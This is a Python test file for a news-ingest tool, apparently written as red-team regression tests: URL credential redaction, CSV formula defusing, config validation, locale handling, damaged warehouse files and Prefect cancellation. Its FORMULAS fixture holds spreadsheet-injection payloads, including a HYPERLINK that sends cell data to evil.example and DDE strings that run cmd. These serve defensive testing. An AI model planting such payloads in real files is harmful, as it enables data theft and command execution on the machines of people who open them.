"""Red team 15: the gaps red team 13 left (docs/security.md, "Known gaps"), then hostile local input.

1. Credentials in a feed's or an article's URL (`http://user:password@host/...`) were stored in
   `articles.url`, `entries.url`, `fetch_events` and `feeds.last_error`, and printed in log lines.
   newsflow never sends them, so nothing needs them: nothing stores, shows or logs them now.

Every server is real, on loopback; every warehouse a DuckDB file; `newsflow` runs as a child process.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from uuid import UUID, uuid4

import duckdb
import pytest
from flows.cancelwatch import CHECK_S, CancelWatch
from flows.ingest import ingest
from flows.zombies import started_here
from prefect.client.orchestration import PrefectClient
from prefect.client.schemas.objects import FlowRun, StateType
from prefect.states import Cancelling

from newsflow import cli
from newsflow.config import load_config
from newsflow.credentials import (
    has_credentials,
    redact_credentials_in_logs,
    url_without_credentials,
    without_credentials,
)
from newsflow.runner import run_ingest
from newsflow.spool import spool_dir_for
from newsflow.warehouse import Warehouse, WarehouseError, migrate, run_read_query
from tests.conftest import free_port
from tests.flows.test_serve import served_flow_runs, start_serve, wait_for
from tests.hostile.servers import LoopbackServer, send_bytes
from tests.hostile.subprocesses import REPO, BackgroundRun, prefect_api_url, run_newsflow, write_run_config
from tests.hostile.test_readers import Holder, serve_stories
from tests.localserver import Page
from tests.samplewarehouse import build_sample_warehouse
from tests.sitefactory import Site, generated_story, rss_feed
from tests.world.prefectcheck import running_ingest_runs

SECRET = "s3cr3t-pw"


def _with_credentials(url: str) -> str:
    return url.replace("http://", f"http://alice:{SECRET}@", 1)


def _every_stored_text(warehouse: Path) -> list[str]:
    """Every VARCHAR value of every table in the warehouse (views only show them again)."""
    with duckdb.connect(str(warehouse), read_only=True) as con:
        columns = con.execute("SELECT table_name, column_name FROM duckdb_columns() JOIN duckdb_tables() "
                              "USING (database_name, schema_name, table_name) WHERE data_type = 'VARCHAR'").fetchall()
        texts: list[str] = []
        for table, column in columns:
            texts += [row[0] for row in con.execute(f'SELECT "{column}" FROM "{table}" WHERE "{column}" IS NOT NULL')
                      .fetchall()]
    return texts


# --- 1. credentials in URLs --------------------------------------------------------------------


def test_credentials_in_feed_and_article_urls_are_never_stored_printed_or_sent(
    tmp_path: Path, server: LoopbackServer, prefect_harness: str
) -> None:
    site, items = Site("Courier"), []
    for story in (generated_story(n) for n in range(3)):
        server.add(f"/a/{story.slug}", Page(site.article_page(story)))
        items.append((story.title, _with_credentials(server.url(f"/a/{story.slug}")), story.published))
    items.append(("Gone", _with_credentials(server.url("/a/gone")), None))  # a 404: its error names the URL
    server.add("/feed.xml", Page(rss_feed("Courier", items), "application/rss+xml"))
    config_path = write_run_config(tmp_path, {"courier": _with_credentials(server.url("/feed.xml"))})

    done = run_newsflow(["run", "--config", str(config_path), "--verbose"], prefect_api_url(), timeout=120)

    assert done.returncode == 0, done.stderr[-2000:]
    warning = [line for line in done.stderr.splitlines() if "holds credentials" in line]
    assert warning and "feeds[0].url ('courier')" in warning[0], done.stderr[-2000:]
    assert SECRET not in done.stdout + done.stderr, "a URL's password was printed"
    texts = _every_stored_text(load_config(config_path).warehouse_path)
    stored = [text for text in texts if SECRET in text]
    # feeds.url is the config's URL, the feed's identity in the warehouse (renames follow it): the one place kept
    assert stored == [_with_credentials(server.url("/feed.xml"))], "\n".join(stored)
    assert any(text == server.url(f"/a/{generated_story(0).slug}") for text in texts), "articles.url lost its URL"
    assert any(server.url("/a/gone") in text for text in texts), "the 404's URL should be stored, without credentials"
    assert all("authorization" not in {name.lower() for name in request.headers} for request in server.requests)


@pytest.mark.parametrize(("text", "expected"), [
    ("http://alice:pw@host/a", "http://host/a"),
    ("https://alice@host:8443/a?x=a@b", "https://host:8443/a?x=a@b"),
    ("GET http://u:p@ss@h/x: HTTP 404 (see http://h2/y@z)", "GET http://h/x: HTTP 404 (see http://h2/y@z)"),
    ("mailto:someone@example.org", "mailto:someone@example.org"),
    ("http://host/path@with-at", "http://host/path@with-at"),
])
def test_without_credentials_drops_only_a_urls_userinfo(text: str, expected: str) -> None:
    assert without_credentials(text) == expected


@pytest.mark.parametrize(("url", "expected"), [
    ("http://u:p@h/a", "http://h/a"),
    ("https://r.example/go?u=http://joe@x.com", "https://r.example/go?u=http://joe@x.com"),  # a URL as data
    ("https://a:b@r.example/go?u=http://joe@x.com#f@g", "https://r.example/go?u=http://joe@x.com#f@g"),
    ("https://medium.com/@user/a-story", "https://medium.com/@user/a-story"),
    ("https://h/unsubscribe?email=a@b.org", "https://h/unsubscribe?email=a@b.org"),
    ("https://h/p#x://y@z", "https://h/p#x://y@z"),
])
def test_url_without_credentials_drops_only_the_urls_own_userinfo(url: str, expected: str) -> None:
    assert url_without_credentials(url) == expected
    assert has_credentials(url) == (url != expected)


def test_a_url_carried_in_an_items_query_is_fetched_and_stored_as_it_is(tmp_path: Path, server: LoopbackServer) -> None:
    """Stored (and fetched) entry URLs went through the regex for log lines, which drops a `user@`
    after any `scheme://` in the string: `/go?u=http://joe@x.com` was stored, then fetched, as
    `/go?u=http://x.com`, another page (a redirector's target, a search, a share link)."""
    site, items, paths = Site("Courier"), [], ["/go?u=http://joe@x.com", "/@user/story", "/s?email=a@b.org"]
    for n, path in enumerate(paths):
        story = generated_story(n)
        server.add(path, Page(site.article_page(story)))
        items.append((story.title, server.url(path), story.published))
    server.add("/feed.xml", Page(rss_feed("Courier", items), "application/rss+xml"))
    config_path = write_run_config(tmp_path, {"courier": server.url("/feed.xml")})
    config = load_config(config_path)

    # In process: the URLs' path through the poll, the fetch and the store is the point, not the command's
    # exit (test_credentials_in_feed_and_article_urls_... runs the real `newsflow run`); the CLI prints its
    # credentials warning from `config.warnings`, one line each
    summary = asyncio.run(run_ingest(config, "carried"))

    assert summary.status == "completed", summary.as_result()
    assert [warning for warning in config.warnings if "holds credentials" in warning] == []
    fetched = {request.path for request in server.requests}
    assert set(paths) <= fetched, sorted(fetched)
    stored = run_read_query(Warehouse(load_config(config_path).warehouse_path), "SELECT url FROM entries").rows
    assert sorted(row[0] for row in stored) == sorted(server.url(path) for path in paths)


def test_log_records_made_after_redaction_is_installed_carry_no_credentials(caplog: pytest.LogCaptureFixture) -> None:
    redact_credentials_in_logs()
    with caplog.at_level(logging.INFO, logger="newsflow.test"):
        logging.getLogger("newsflow.test").info("robots.txt for %s: %s", "http://bob:hunter2@h", "HTTP 404")
    assert caplog.messages == ["robots.txt for http://h: HTTP 404"]


def test_migration_0063_drops_the_credentials_stored_before_it(tmp_path: Path) -> None:
    store = build_sample_warehouse(tmp_path / "news.duckdb")
    with store.writing() as con:  # back to how a warehouse loaded before 0063 looks
        con.execute("UPDATE articles SET url = replace(url, 'https://', 'https://u:pw@')")
        con.execute("UPDATE entries SET url = replace(url, 'https://', 'https://u:pw@'), "
                    "guid = replace(guid, 'https://', 'https://u:pw@'), last_error = 'GET https://u:pw@h/x: HTTP 500'")
        con.execute("UPDATE fetch_events SET url = replace(url, 'https://', 'https://u:pw@'), "
                    "error = 'GET https://u:pw@h/robots.txt: HTTP 404'")
        con.execute("UPDATE feeds SET last_error = 'GET https://u:pw@h/feed: HTTP 503'")
        con.execute("DELETE FROM schema_migrations WHERE version = 63")
    assert any(":pw@" in text for text in _every_stored_text(store.path))
    with store.writing() as con:  # what the next process to open it for writing does
        migrate(con)
    assert [text for text in _every_stored_text(store.path) if ":pw@" in text] == []
    assert run_read_query(store, "SELECT count(*) FROM articles WHERE url LIKE 'https://%'").rows[0][0] > 0


def test_migration_0063_keeps_a_url_carried_in_a_urls_query(tmp_path: Path) -> None:
    """0063 used the regex for log lines on stored URLs: `/go?u=http://joe@x.com` lost `joe@`, and
    pending entries would be fetched at another URL."""
    store = build_sample_warehouse(tmp_path / "news.duckdb")
    nested, medium = "https://r.example/go?u=http://joe@x.com", "https://medium.com/@user/a-story"
    with store.writing() as con:
        article, guid = con.execute("SELECT (SELECT min(article_id) FROM articles), "
                                    "(SELECT min(guid) FROM entries)").fetchone() or (None, None)
        con.execute("UPDATE articles SET url = ? WHERE article_id = ?", ["https://u:pw@r.example/go?u=http://joe@x.com",
                                                                       article])
        con.execute("UPDATE entries SET url = ?, guid = ? WHERE guid = ?", [nested, medium, guid])
        con.execute("DELETE FROM schema_migrations WHERE version = 63")
        migrate(con)
        assert con.execute("SELECT url FROM articles WHERE article_id = ?", [article]).fetchall() == [(nested,)]
        assert con.execute("SELECT url FROM entries WHERE guid = ?", [medium]).fetchall() == [(nested,)]


# --- 2. our exit line starts its own line after Prefect's log worker -------------------------------

_LOG_WORKER_THEN_EXIT_LINE = """
import sys
from flows.apiwatch import watch_stderr_line_ends
from flows.leaving import fail as _fail
if sys.argv[1] == "watched":
    watch_stderr_line_ends()  # what `newsflow run` and `newsflow serve` do as they start
from prefect.logging.handlers import APILogWorker
APILogWorker.instance().send({"name": "n", "level": 20, "message": "m", "timestamp": "2026-01-01T00:00:00Z",
                              "flow_run_id": None, "task_run_id": None})
APILogWorker.drain_all(timeout=30)  # its POST fails: the API is gone
_fail("the Prefect API at http://127.0.0.1:9/api stopped answering during the run", 4)
"""


@pytest.mark.parametrize("stderr", ["watched", "unwatched"])
def test_the_exit_line_starts_its_own_line_after_prefects_log_worker_left_one_open(stderr: str) -> None:
    """Prefect's real API log worker, its API gone, writes the error's text without a newline; the
    exit line came right after it, on its line. `unwatched` is the control: the glue is still there."""
    env = {**os.environ, "PREFECT_API_URL": f"http://127.0.0.1:{free_port()}/api", "PREFECT_CLIENT_MAX_RETRIES": "0"}
    done = subprocess.run([sys.executable, "-c", _LOG_WORKER_THEN_EXIT_LINE, stderr], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)
    lines = done.stderr.splitlines()
    assert "All connection attempts failed" in done.stderr, done.stderr  # the worker did fail, as Prefect does
    glued = [line for line in lines if "newsflow: " in line and not line.startswith("newsflow: ")]
    if stderr == "watched":
        assert glued == [] and any(line.startswith("newsflow: the Prefect API") for line in lines), done.stderr
    else:
        assert glued, "the control no longer glues: Prefect's log worker changed, and so may this fix's need"


# --- 3. CSV a spreadsheet opens runs no formula ---------------------------------------------------

FORMULAS = {  # stored title -> the CSV cell
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "-5": "-5",  # a number stays a number
    "Plain title = fine": "Plain title = fine",
}


def _warehouse_with_titles(tmp_path: Path) -> tuple[Path, list[str]]:
    config_path = write_run_config(tmp_path, {"planet": "http://127.0.0.1:9/rss.xml"})
    store = build_sample_warehouse(load_config(config_path).warehouse_path)
    ids = [row[0] for row in run_read_query(store, "SELECT article_id FROM articles ORDER BY 1").rows]
    with store.writing() as con:
        for article_id, title in zip(ids, FORMULAS, strict=False):
            con.execute("UPDATE articles SET title = ? WHERE article_id = ?", [title, article_id])
    return config_path, ids[:len(FORMULAS)]


def test_export_csv_defuses_formulas_and_jsonl_keeps_the_stored_text(tmp_path: Path) -> None:
    config_path, ids = _warehouse_with_titles(tmp_path)
    assert cli.main(["export", "--format", "csv", str(tmp_path / "out"), "--config", str(config_path)]) == 0
    with (tmp_path / "out" / "articles.csv").open(newline="", encoding="utf-8") as handle:
        cells = {row["article_id"]: row["title"] for row in csv.DictReader(handle)}
    assert [cells[i] for i in ids] == list(FORMULAS.values())
    assert cli.main(["export", "--format", "jsonl", str(tmp_path / "out"), "--config", str(config_path)]) == 0
    lines = (tmp_path / "out" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    titles = {record["article_id"]: record["title"] for record in map(json.loads, lines)}
    assert [titles[i] for i in ids] == list(FORMULAS), "JSON Lines keeps every title as stored"


def test_csv_output_of_query_defuses_formulas_and_leaves_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config_path, ids = _warehouse_with_titles(tmp_path)
    capsys.readouterr()
    sql = "SELECT article_id, title, -5 AS n FROM articles"
    assert cli.main(["query", sql, "--format", "csv", "--config", str(config_path)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = {row["article_id"]: row["title"] for row in rows}
    assert [cells[i] for i in ids] == list(FORMULAS.values())
    assert {row["n"] for row in rows} == {"-5"}


# --- 4. config values that passed validation, or crashed it -------------------------------------

LONG = "a" * 5000


@pytest.mark.parametrize(("section", "line", "key"), [
    ("schedule", f'timezone = "{LONG}"', "schedule.timezone"),  # OSError: File name too long, exit 1
    ("schedule", f'cron = "{LONG}"', "schedule.cron"),  # a 5,000-character "one line"
    ("execution", f'task_runner = "{LONG}"', "execution.task_runner"),
    ("fetch", f'allowed_networks = ["{LONG}"]', "fetch.allowed_networks[0]"),
    ("warehouse", f'path = "{LONG}.duckdb"', "warehouse.path"),  # exit 1, File name too long, the whole path
    ("warehouse", 'path = "' + "a/" * 2100 + 'news.duckdb"', "warehouse.path"),
    ("warehouse", "write_patience = 1e308", "warehouse.write_patience"),  # accepted: a wait that overflows
    ("execution", "run_budget_seconds = 1e308", "execution.run_budget_seconds"),
    ("extract", "workers = 100000", "extract.workers"),  # accepted: 100,000 processes started, whatever the batch
    ("extract", "html_budget_mb = 9223372036854775807", "extract.html_budget_mb"),  # bytes overflow BIGINT
    ("fetch", f'user_agent = "{LONG}"', "fetch.user_agent"),  # accepted: every server answers 431
])
def test_a_config_value_that_cannot_work_is_one_short_line_exit_2_naming_its_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], section: str, line: str, key: str
) -> None:
    config_path = tmp_path / "newsflow.toml"
    config_path.write_text(f'[{section}]\n{line}\n\n[[feeds]]\nname = "a"\nurl = "http://example.org/f"\n',
                           encoding="utf-8")
    assert cli.main(["feeds", "--config", str(config_path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("newsflow: ") and key in err, err[:500]
    assert len(err) < 400, f"a {len(err):,}-character error line"


def test_serve_with_five_cron_fields_that_are_no_cron_is_one_line_exit_2(tmp_path: Path, prefect_harness: str) -> None:
    """`schedule.cron = "61 * * * *"` passed the config's check (five fields), and `newsflow serve` died
    in Prefect's `Cron` with a ValueError traceback, exit 1."""
    config_path = write_run_config(tmp_path, {"a": "http://127.0.0.1:9/feed.xml"})
    config_path.write_text(config_path.read_text() + '\n[schedule]\ncron = "61 * * * *"\n')
    done = run_newsflow(["serve", "--config", str(config_path)], prefect_api_url(), timeout=90)
    assert done.returncode == 2, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    assert next(line for line in done.stderr.splitlines() if "schedule.cron" in line).startswith("newsflow: ")


# --- 5. output in a locale that is not UTF-8 --------------------------------------------------------

TITLE = "宇航员 ünïcödé — test 😀"


@pytest.mark.parametrize("locale_env", [
    {"PYTHONIOENCODING": "ascii"},
    {"LC_ALL": "C", "LANG": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"},  # Python keeps the C locale's ASCII
])
def test_output_a_locale_cannot_encode_is_escaped_not_a_traceback(tmp_path: Path, locale_env: dict[str, str]) -> None:
    """Before: `UnicodeEncodeError: 'ascii' codec can't encode characters`, a traceback, exit 1, at the
    first stored title in Chinese; the same for an error line naming something not ASCII."""
    config_path = write_run_config(tmp_path, {"planet": "http://127.0.0.1:9/rss.xml"})
    store = build_sample_warehouse(load_config(config_path).warehouse_path)
    with store.writing() as con:
        con.execute("UPDATE articles SET title = ? WHERE article_id = (SELECT min(article_id) FROM articles)", [TITLE])
    env = {key: value for key, value in os.environ.items() if not key.startswith(("LC_", "PYTHONUTF8", "PYTHONIO"))}
    env.update(locale_env)

    def newsflow(*args: str | bytes) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable, "-m", "newsflow", *args, "--config", str(config_path)], cwd=REPO,
                              env=env, capture_output=True, timeout=60)

    as_json = newsflow("query", "SELECT title FROM articles ORDER BY article_id LIMIT 1", "--format", "json")
    assert as_json.returncode == 0, as_json.stderr.decode(errors="replace")[-1500:]
    assert json.loads(as_json.stdout) == [{"title": TITLE}], "JSON escapes read back as the title"
    table = newsflow("query", "SELECT title FROM articles ORDER BY article_id LIMIT 1")
    assert table.returncode == 0 and b"\\u5b87" in table.stdout, table.stderr.decode(errors="replace")[-1500:]
    refused = newsflow("query", "SELECT * FROM \"nowhere_é\"")
    assert refused.returncode == 2 and b"Traceback" not in refused.stderr, refused.stderr[-1500:]
    assert refused.stderr.startswith(b"newsflow: ") and refused.stderr.count(b"\n") == 1, refused.stderr
    typed = newsflow("query", "SELECT 'é😀' AS typed", "--format", "json")  # UTF-8 bytes from the terminal
    assert typed.returncode == 0 and json.loads(typed.stdout) == [{"typed": "é😀"}], typed.stderr[-1500:]
    not_text = newsflow("query", b"SELECT '\xff'")
    assert not_text.returncode == 2 and not_text.stderr.count(b"\n") == 1, not_text.stderr[-1500:]
    assert b"argument 2" in not_text.stderr and b"not UTF-8" in not_text.stderr


# --- 6. an empty warehouse file -------------------------------------------------------------------


def test_an_empty_warehouse_file_is_no_warehouse_yet_and_the_next_run_makes_it(
    tmp_path: Path, server: LoopbackServer, prefect_harness: str
) -> None:
    """A first run killed (or a full disk) between creating the file and writing its header, or a
    `touch`: 0 bytes. Before, every command, `run` included, said the file was damaged, to restore a
    backup (exit 3), for good: nothing made the warehouse again."""
    site, items = Site("Courier"), []
    for story in (generated_story(n) for n in range(2)):
        server.add(f"/a/{story.slug}", Page(site.article_page(story)))
        items.append((story.title, server.url(f"/a/{story.slug}"), story.published))
    server.add("/feed.xml", Page(rss_feed("Courier", items), "application/rss+xml"))
    config_path = write_run_config(tmp_path, {"courier": server.url("/feed.xml")})
    warehouse = load_config(config_path).warehouse_path
    warehouse.parent.mkdir(parents=True)
    warehouse.touch()

    queried = run_newsflow(["query", "SELECT count(*) FROM articles", "--config", str(config_path)], prefect_api_url())
    assert queried.returncode == 3, queried.stderr[-1500:]
    assert "no warehouse at" in queried.stderr and "run `newsflow run` first" in queried.stderr, queried.stderr
    # the next run, in process (the exit code and the line are the query's above; this is about the file):
    # its first open for writing, as `newsflow run`'s own check is, makes the warehouse in the empty file
    assert asyncio.run(run_ingest(load_config(config_path), "after-empty")).status == "completed"
    assert run_read_query(Warehouse(warehouse), "SELECT count(*) FROM articles").rows == [(2,)]


# --- 7. a write-ahead log left damaged by a crash --------------------------------------------------

_WRITE_AND_DIE = """
import os, sys, duckdb
con = duckdb.connect(sys.argv[1])
con.execute("SET checkpoint_threshold = '10GB'")  # the writes stay in the .wal, as a run killed mid-batch leaves them
con.execute("UPDATE articles SET title = title || ' (edited)'")
os._exit(0)  # no checkpoint at close: the process is gone, the .wal stays
"""


@pytest.mark.migrates_a_new_warehouse  # the log and file a migrated warehouse has
@pytest.mark.parametrize("damage", ["cut", "flipped"])
def test_a_damaged_write_ahead_log_is_named_with_what_to_do_and_moving_it_aside_opens_the_warehouse(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    """A log cut short is DuckDB's to ignore (its tail was never committed); bytes changed inside it
    are a checksum error. Before, the line said the warehouse file was damaged, to restore a backup or
    start a new warehouse, for a file that was whole."""
    config_path = write_run_config(tmp_path, {"planet": "http://127.0.0.1:9/rss.xml"})
    warehouse = load_config(config_path).warehouse_path
    build_sample_warehouse(warehouse)
    subprocess.run([sys.executable, "-c", _WRITE_AND_DIE, str(warehouse)], check=True, timeout=60)
    wal = Path(f"{warehouse}.wal")
    size = wal.stat().st_size
    with wal.open("r+b") as handle:
        if damage == "cut":
            handle.truncate(size - 1)
        else:
            handle.seek(size // 2)
            handle.write(b"\xde\xad\xbe\xef")
    code = cli.main(["query", "SELECT count(*) FROM articles", "--config", str(config_path)])
    err = capsys.readouterr().err
    if damage == "cut":  # DuckDB drops the unfinished entry: the warehouse as before the edit
        assert code == 0, err
        return
    assert code == 3 and err.count("\n") == 1, err
    assert "write-ahead log" in err and "move the .wal aside" in err, err
    wal.rename(tmp_path / "news.duckdb.wal.damaged")
    assert cli.main(["query", "SELECT count(*) FROM articles", "--config", str(config_path)]) == 0


# --- 8. a run cancelled from Prefect's UI or API --------------------------------------------------


async def _running_ingest_runs(api: str, config_path: Path) -> list[str]:
    return [str(r.id) for r in await running_ingest_runs(api, config_path)]


async def _cancel_as_the_ui_does(api: str, run_id: str) -> None:
    async with PrefectClient(api=api) as client:
        await client.set_flow_run_state(run_id, Cancelling())


async def _state_type(api: str, run_id: str) -> StateType | None:
    async with PrefectClient(api=api) as client:
        state = (await client.read_flow_run(UUID(run_id))).state
    return None if state is None else state.type


def _page_held_until(release: threading.Event, page: bytes) -> Callable[[BaseHTTPRequestHandler], None]:
    def handle(handler: BaseHTTPRequestHandler) -> None:
        release.wait(40)
        send_bytes(handler, 200, page, "text/html")

    return handle


def test_a_run_cancelled_from_prefect_stops_keeps_what_it_stored_and_the_next_run_resumes(
    tmp_path: Path, server: LoopbackServer, prefect_harness: str
) -> None:
    """The UI's Cancel sets the flow run Cancelling; nothing in `newsflow run`'s process watched for it.
    Before: the run went on to its end (the slow pages came 40 s later), exit 0, `completed` in
    `runs`, and Prefect showed the run Cancelling for ever."""
    release = threading.Event()
    site, items = Site("Courier"), []
    for n in range(6):  # the second batch (2 a batch) is in flight when the run is cancelled
        story = generated_story(n)
        server.add(f"/a/{story.slug}", _page_held_until(release, site.article_page(story)) if n >= 2
                   else Page(site.article_page(story)))
        items.append((story.title, server.url(f"/a/{story.slug}"), story.published))
    server.add("/feed.xml", Page(rss_feed("Courier", items), "application/rss+xml"))
    config_path = write_run_config(tmp_path, {"courier": server.url("/feed.xml")}, fetch={"timeout": 60.0},
                                   extract={"batch_size": 2})
    api, store = prefect_api_url(), Warehouse(load_config(config_path).warehouse_path)
    try:
        with BackgroundRun(config_path, api) as run:
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and not any(r.path.startswith("/a/story-2") for r in server.requests):
                time.sleep(0.1)  # polling a server we own: the second batch's first request
            run_ids = asyncio.run(_running_ingest_runs(api, config_path))
            assert len(run_ids) == 1, run_ids
            asyncio.run(_cancel_as_the_ui_does(api, run_ids[0]))
            code, _, err = run.wait(timeout=120)
    finally:
        release.set()
    assert code == 130, err[-2000:]
    assert any(line.startswith(f"newsflow: cancelled from Prefect (flow run {run_ids[0]})") for line in
               err.splitlines()), err[-2000:]
    assert asyncio.run(_state_type(api, run_ids[0])) is StateType.CANCELLED
    assert run_read_query(store, "SELECT run_id, status FROM runs").rows == [(run_ids[0], "cancelled")]
    assert run_read_query(store, "SELECT count(*) FROM articles").rows == [(2,)], "the batch in flight rolled back"
    # the next run, in process: the command's stop is the child's above; resuming is about the rows
    again = asyncio.run(run_ingest(load_config(config_path), "again", all_feeds=True))
    assert again.status == "completed", again.as_result()
    assert run_read_query(store, "SELECT count(*), count(DISTINCT canonical_url) FROM articles").rows == [(6, 6)]


async def _a_stale_cancelling_run_at(api: str, infrastructure_pid: str) -> str:
    """An `ingest` flow run an earlier process left Cancelling (old code, or its mark_cancelled
    refused by an API that was down), recorded under `infrastructure_pid`."""
    async with PrefectClient(api=api) as client:
        run = await client.create_flow_run(ingest, name="stale-cancelling", parameters={})
        await client.update_flow_run(run.id, infrastructure_pid=infrastructure_pid)
        await client.set_flow_run_state(run.id, Cancelling(), force=True)
    return str(run.id)


def test_a_run_left_cancelling_by_an_earlier_process_with_the_same_host_and_pid_does_not_stop_a_new_run(
    tmp_path: Path, server: LoopbackServer, prefect_harness: str
) -> None:
    """In a container the hostname is fixed and PIDs are small and stable, so `<hostname>:<pid>` comes
    back. The watch matched any Cancelling `ingest` run with this process's infrastructure_pid: a run
    an earlier process left Cancelling stopped the next run ~2 s after it started (exit 130, naming
    the stale run). It now watches only the flow run this process started."""
    release = threading.Event()
    site, items = Site("Courier"), []
    for n in range(3):
        story = generated_story(n)
        server.add(f"/a/{story.slug}", _page_held_until(release, site.article_page(story)))
        items.append((story.title, server.url(f"/a/{story.slug}"), story.published))
    server.add("/feed.xml", Page(rss_feed("Courier", items), "application/rss+xml"))
    config_path = write_run_config(tmp_path, {"courier": server.url("/feed.xml")}, fetch={"timeout": 60.0})
    api = prefect_api_url()
    try:
        with BackgroundRun(config_path, api) as run:
            # before the child has imported Prefect, let alone started its watch
            stale = asyncio.run(_a_stale_cancelling_run_at(api, f"{socket.gethostname()}:{run.pid}"))
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and not any(r.path.startswith("/a/") for r in server.requests):
                time.sleep(0.1)  # polling a server we own: the run is in its flow, fetching
            assert run.proc is not None
            # A negative needs a bound: the watch asks every CHECK_S; three chances to stop the run wrongly
            with pytest.raises(subprocess.TimeoutExpired):
                run.proc.wait(timeout=3 * CHECK_S)
            own = [r for r in asyncio.run(_running_ingest_runs(api, config_path)) if r != stale]
            assert len(own) == 1, own
            asyncio.run(_cancel_as_the_ui_does(api, own[0]))  # the watch is alive, and watches its own run
            code, _, err = run.wait(timeout=120)
    finally:
        release.set()
    assert code == 130, err[-2000:]
    assert any(line.startswith(f"newsflow: cancelled from Prefect (flow run {own[0]})") for line in
               err.splitlines()), err[-2000:]
    assert asyncio.run(_state_type(api, stale)) is StateType.CANCELLING, "another process's run is not ours to end"


class _HeldPrefectApi(ThreadingHTTPServer):
    """Answers `/flow_runs/filter` with no runs, once `release` is set (a slow API mid-query)."""

    def __init__(self) -> None:
        self.asked, self.release = threading.Event(), threading.Event()
        held = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                held.asked.set()
                held.release.wait(30)
                send_bytes(self, 200, b"[]", "application/json")

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.daemon_threads = True


def test_once_a_cancel_watch_is_stopped_it_can_send_no_sigterm() -> None:
    """The watch checked `_stopped` then signalled, unlocked, and cancel() did not wait for it: a
    watch mid-query when the run ended could SIGTERM the process after `newsflow run` had left its
    try (exit 130, or a traceback, for a completed run). stop() now returns only once the watch has
    ended, and it checks and signals under the lock stop() takes."""
    api = _HeldPrefectApi()
    threading.Thread(target=api.serve_forever, daemon=True).start()
    watch = CancelWatch(f"http://127.0.0.1:{api.server_address[1]}", every=0.01).start()
    started_here(FlowRun(flow_id=uuid4(), name="watched"))  # a run of "this process" for it to ask about
    try:
        assert api.asked.wait(30), "the watch never asked"
        alive_after_stop: list[bool] = []
        stopper = threading.Thread(target=lambda: (watch.stop(), alive_after_stop.append(watch._thread.is_alive())))
        stopper.start()
        deadline = time.monotonic() + 30
        while not watch._stopped.is_set() and time.monotonic() < deadline:
            time.sleep(0.01)  # polling the flag stop() sets first
        api.release.set()
        stopper.join(30)
        assert alive_after_stop == [False], "stop() returned while the watch could still signal"
    finally:
        api.release.set()
        api.shutdown()
        api.server_close()


# --- 9. a deployment run with parameters that cannot work --------------------------------------------


def test_a_deployment_run_naming_no_configured_feed_fails_in_one_line_without_a_traceback(
    tmp_path: Path, prefect_harness: str, caplog: pytest.LogCaptureFixture
) -> None:
    """`prefect deployment run 'ingest/manual' -p 'feeds=["nope"]'`: before, the ConfigError escaped the
    flow: Prefect logged it with its traceback and the state said `Flow run encountered an exception`.
    Now it is the run's one error line, as a broken config file already was. (Wrong types, `feeds="a"`,
    are Prefect's parameter validation, one message each, before the flow starts.)"""
    config_path = write_run_config(tmp_path, {"a": "http://127.0.0.1:9/feed.xml"})
    with caplog.at_level(logging.INFO):
        state = asyncio.run(ingest(config_path=str(config_path), feeds=["nope"], return_state=True))
    assert state.is_failed() and state.message is not None and state.message.endswith(
        f"no feed named nope in {config_path}"), state
    assert [r.getMessage() for r in caplog.records if r.exc_info] == [], "a traceback reached the run's logs"
    assert any("pass feed names the config has" in r.getMessage() for r in caplog.records)


# --- 10. an export that fills the disk ----------------------------------------------------------------


def test_a_parquet_export_that_fills_the_disk_leaves_the_previous_export_whole(tmp_path: Path) -> None:
    """A full disk (RLIMIT_FSIZE: a write past 1,000 bytes fails, EFBIG) during `newsflow export`.
    CSV and JSON Lines were already written beside their target and renamed; Parquet partitions were
    written in place: before, the previous export's date files were left cut short (873 and 1,000 of
    ~3,300 bytes), unreadable, under the exit-1 line."""
    config_path = write_run_config(tmp_path, {"planet": "http://127.0.0.1:9/rss.xml"})
    store = build_sample_warehouse(load_config(config_path).warehouse_path)
    out = tmp_path / "out"
    assert cli.main(["export", str(out), "--config", str(config_path)]) == 0
    before = {path: path.read_bytes() for path in sorted((out / "articles").rglob("*.parquet"))}
    for fmt in ("csv", "jsonl"):
        assert cli.main(["export", str(out), "--format", fmt, "--config", str(config_path)]) == 0
    earlier = {fmt: (out / f"articles.{fmt}").read_bytes() for fmt in ("csv", "jsonl")}
    for fmt in ("parquet", "csv", "jsonl"):
        full = subprocess.run([sys.executable, "-m", "tests.hostile.fsize_child", "1000", "export", str(out),
                               "--format", fmt, "--config", str(config_path)],
                              cwd=REPO, capture_output=True, text=True, timeout=120)
        assert full.returncode == 1 and full.stderr.startswith("newsflow: export to "), full.stderr[-1500:]
        assert full.stderr.count("\n") == 1, full.stderr
    assert {path: path.read_bytes() for path in sorted((out / "articles").rglob("*.parquet"))} == before
    assert {fmt: (out / f"articles.{fmt}").read_bytes() for fmt in ("csv", "jsonl")} == earlier
    # `.articles.zone`: the zone of the Parquet export's date folders (analyst 53), left as the first export wrote it
    assert sorted(path.name for path in out.iterdir()) == [".articles.zone", "articles", "articles.csv",
                                                           "articles.jsonl"]
